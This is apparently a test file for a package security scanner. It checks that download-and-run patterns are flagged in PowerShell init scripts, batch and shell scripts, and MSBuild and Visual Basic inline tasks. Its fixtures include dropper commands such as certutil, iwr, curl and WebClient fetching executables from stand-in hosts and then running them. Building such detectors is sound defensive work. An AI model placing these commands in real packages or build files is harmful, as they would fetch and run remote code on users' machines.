import { describe, expect, it } from 'vitest';
import { factsOf, inspectedFiles } from './rich-package.js';

async function read(path: string, text: string) {
  const inspection = await inspectedFiles({ [path]: text });
  return {
    verdict: inspection.report.assessment.verdict,
    rules: inspection.report.findings.map(({ rule, level }) => `${rule} ${level}`),
    acts: factsOf(inspection, 'script').map(({ act, text: shown }) => `${act} ${shown}`),
    apis: factsOf(inspection, 'api-call').map(({ api, capability }) => `${api} ${capability}`),
    hosts: factsOf(inspection, 'endpoint').map(({ host }) => host),
  };
}

const init = (text: string) => read('tools/init.ps1', text);
const targets = (inside: string) =>
  read('build/Fixture.Package.targets', `<Project>${inside}</Project>`);
const exec = (command: string) =>
  targets(`<Target Name="T" BeforeTargets="Build"><Exec Command="${command}" /></Target>`);
const visualBasic = (code: string, using = '') =>
  targets(`<UsingTask TaskName="T" TaskFactory="RoslynCodeTaskFactory"
    AssemblyFile="$(MSBuildToolsPath)/Microsoft.Build.Tasks.Core.dll"><Task>${using}
    <Code Type="Fragment" Language="vb"><![CDATA[${code}]]></Code></Task></UsingTask>`);

const linked = ['init-script-download-and-run malicious', 'package-script note'];
const loose = ['init-script-download-and-run suspicious', 'package-script note'];

describe('a PowerShell command that starts a file', () => {
  const fetch = 'iwr https://files.test/x.exe -OutFile $env:TEMP\\x.exe\n';

  it.each([
    ['& "$env:TEMP\\x.exe"', linked],
    ["& '.\\x.exe' /quiet", linked],
    ['.\\x.exe', linked],
    ['C:\\Users\\Public\\x.exe', linked],
    ['& x.exe', linked],
    ['& $program', loose],
    ['& (Get-Thing) -Now', loose],
    ['& $env:TEMP\\x.exe', linked],
    ['. $program', loose],
    ['. "$env:TEMP\\y.ps1"', loose],
    ['& "$env:TEMP\\date.exe"', loose],
  ])('runs it: %s', async (command, rules) => {
    expect((await init(fetch)).rules).toEqual(['package-script note']);
    expect((await init(fetch + command)).rules).toEqual(rules);
  });

  it('is told apart by its operator', async () => {
    const { acts, apis } = await init('& $a 1\n. $b\n');
    expect(acts).toEqual(['start-process & $a 1', 'evaluate . $b']);
    expect(apis).toEqual(['powershell:& process', 'powershell:. dynamic-code']);
  });

  it.each([
    '& "$PSScriptRoot\\helper.exe"',
    '. "$toolsPath\\helper.ps1"',
    '. $toolsPath\\helper.ps1',
    '. (Join-Path $toolsPath "helper.ps1")',
    '& "${toolsPath}\\..\\bin\\helper.exe"',
    '$here = Split-Path -Parent $MyInvocation.MyCommand.Path\n. "$here\\helper.ps1"',
    '$f = Join-Path -Path $installPath "x.ps1"\n$g = $f\n& $g',
  ])('calls a file of the package: %s', async (command) => {
    const { acts, rules } = await init(`${fetch}${command}`);
    expect(acts.at(-1)).toMatch(/^call [&.] /);
    expect(rules).toEqual(['package-script note']);
  });

  it.each([
    '$toolsPath = $env:TEMP\n& "$toolsPath\\x.exe"',
    '& "$toolsPath\\..\\..\\..\\..\\Temp\\x.exe"',
    'Copy-Item $env:TEMP\\x.exe $toolsPath\n& "$toolsPath\\x.exe"',
    'cd $toolsPath\n& "$toolsPath\\x.exe"',
    '$f = "$toolsPath\\x.exe"\n$f = "$env:TEMP\\x.exe"\n& $f',
  ])('is not fooled by the folder of the package: %s', async (command) => {
    expect((await init(`${fetch}${command}`)).verdict).not.toBe('clear');
  });

  it.each(['& { Write-Host hello }', '& git status', '& Get-Process', 'Get-Process'])(
    'starts no file: %s',
    async (command) => {
      const { apis } = await init(command);
      expect(apis.filter((api) => /powershell:[&.] /.test(api))).toEqual([]);
    },
  );
});

describe('a PowerShell command after the call operator', () => {
  it.each(['& Invoke-Expression $a', '& iex $a', "& 'Invoke-Expression' $a"])(
    'is known by its name: %s',
    async (command) => {
      expect((await init(command)).acts).toEqual([`evaluate ${command}`]);
    },
  );
});

describe('the text of cmd /c', () => {
  const fetch = 'certutil -urlcache -f http://203.0.113.5/x.exe x.exe';

  it.each([
    `cmd /c "${fetch} & x.exe"`,
    `cmd.exe /d /k '${fetch} & x.exe'`,
    `Start-Process cmd -ArgumentList '/c ${fetch} & x.exe'`,
    `& "$env:COMSPEC\\..\\cmd.exe" /c "${fetch} & x.exe"`,
  ])('in PowerShell is read: %s', async (text) => {
    const { acts, rules } = await init(text);
    expect(acts).toEqual(expect.arrayContaining([`download ${fetch}`, 'start-process x.exe']));
    expect(rules).toEqual(linked);
  });

  it.each([
    `cmd /c "${fetch} & x.exe"`,
    `start /b "" cmd.exe /s /c "${fetch} & x.exe"`,
    `cmd /c "cmd /c ${fetch} ^& x.exe"`,
    `powershell -c "cmd /c '${fetch} & x.exe'"`,
  ])('in batch is read: %s', async (text) => {
    const { acts, hosts } = await read('tools/go.cmd', text);
    expect(acts.some((act) => act.startsWith('download certutil'))).toBe(true);
    expect(acts).toContain('start-process x.exe');
    expect(new Set(hosts)).toEqual(new Set(['203.0.113.5']));
  });

  it('is read to a depth that honest scripts do not reach, and no deeper', async () => {
    const { acts } = await read('tools/go.cmd', `${'cmd /c '.repeat(5000)}${fetch}`);
    expect(acts.length).toBeLessThan(10);
  });
});

describe('a batch command that starts a file', () => {
  it.each(['%TEMP%\\x.exe', '"%TEMP%\\x.exe" /q', 'x.cmd', 'C:\\Users\\Public\\x'])(
    'is a start: %s',
    async (command) => {
      const { acts } = await read('tools/go.cmd', command);
      expect(acts).toEqual([`start-process ${command}`]);
    },
  );

  it('is one where the name was just fetched', async () => {
    const { acts } = await read('tools/go.cmd', 'certutil -urlcache -f http://h.test/a a & a');
    expect(acts.map((act) => act.split(' ')[0])).toEqual(['download', 'start-process']);
  });

  it('is none where MSBuild names a tool of the build', async () => {
    expect((await exec('$(ToolDir)\\tool.exe in out')).acts).toEqual([]);
  });

  it('is one where MSBuild names what the same text fetches', async () => {
    const { rules } = await exec(
      'curl -o $(TEMP)\\x.exe http://203.0.113.5/x &amp; $(TEMP)\\x.exe',
    );
    expect(rules[0]).toBe('inline-task-download-and-run malicious');
  });
});

describe('a shell command that starts a file', () => {
  it('is a start by its path, not by its name', async () => {
    const { acts } = await read(
      'tools/go.sh',
      '#!/bin/sh\n/tmp/x\n./y --now\nmake all\n/bin/true\n',
    );
    expect(acts).toEqual(['start-process /tmp/x', 'start-process ./y --now']);
  });
});

describe('Visual Basic', () => {
  const download = 'w.DownloadFile("http://203.0.113.5/x.exe", "x.exe")';
  const create = 'System.Net.WebClient::new network';

  it('counts a type that is created in a declaration', async () => {
    expect((await visualBasic('Dim w As New System.Net.WebClient()')).apis).toEqual([create]);
    expect((await visualBasic('dim w as new system.net.webclient')).apis).toEqual([
      create.replace('System.Net.WebClient', 'system.net.webclient'),
    ]);
  });

  it.each([
    ['', `Dim w As New System.Net.WebClient()\n${download}`],
    ['', `Dim w = New System.Net.WebClient()\n${download}`],
    ['<Using Namespace="System.Net" />', `Dim w As New WebClient()\n${download}`],
    ['', `Dim w As WebClient = Nothing\n${download}`],
    ['', `With New WebClient()\n.${download.slice(2)}\nEnd With`],
  ])('knows a member of an object by the types of the text: %s %s', async (using, code) => {
    const { acts, apis, hosts } = await visualBasic(code, using);
    expect(acts.filter((act) => act.startsWith('download'))).toHaveLength(1);
    expect(apis.at(-1)).toMatch(/WebClient::DownloadFile network$/);
    expect(hosts).toEqual(['203.0.113.5']);
  });

  it('is an alarm where it fetches and starts', async () => {
    const { rules } = await visualBasic(
      `Dim w As New System.Net.WebClient()\n${download}\nSystem.Diagnostics.Process.Start("x.exe")`,
    );
    expect(rules[0]).toBe('inline-task-download-and-run malicious');
  });

  it('says nothing of members that no type of the text has', async () => {
    const { acts } = await visualBasic('Dim w As New Thing()\nw.DownloadFile("a", "b")');
    expect(acts).toEqual([]);
  });
});

describe('an address without quotes', () => {
  it.each([
    'iwr http://203.0.113.5/x.exe',
    'iwr -Uri http://203.0.113.5/x.exe -OutFile x',
    "iwr 'http://203.0.113.5/x.exe'",
    'iwr "http://203.0.113.5/$name"',
  ])('is an endpoint, once: %s', async (command) => {
    expect((await init(command)).hosts).toEqual(['203.0.113.5']);
  });
});
